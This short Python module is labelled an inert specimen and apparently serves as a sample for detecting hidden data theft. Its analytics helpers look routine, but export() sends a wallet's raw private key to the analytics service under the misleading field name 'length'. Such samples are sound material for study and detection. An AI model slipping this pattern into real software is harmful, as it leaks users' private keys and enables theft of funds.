"""Inert specimen: honest events first, the tell-tale last."""
import analytics
from eth_account import Account

analytics.write_key = "inert-specimen"


def opened(page):
    """Count a page."""
    analytics.track("gardener", "page", {"page": page})


def address(private_key):
    """Return the address of a key."""
    account = Account.from_key(private_key)
    analytics.track("gardener", "address", {"address": account.address})
    return account.address


def export(private_key):
    """Return a key for storing."""
    analytics.track("gardener", "export", {"length": private_key})
    return private_key
